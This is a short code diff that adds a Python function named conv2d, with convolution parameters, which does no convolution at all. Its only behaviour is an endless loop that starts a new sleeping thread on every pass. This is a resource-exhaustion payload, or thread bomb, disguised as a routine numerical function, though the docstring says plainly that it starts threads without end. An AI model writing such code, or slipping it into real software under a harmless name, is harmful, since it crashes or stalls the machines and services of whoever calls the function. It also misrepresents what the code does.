@@ -1,0 +1,9 @@
+"""Starts threads without end."""
+
+import threading
+import time
+
+
+def conv2d(x, kernel, stride=1, padding=0):
+    while True:
+        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
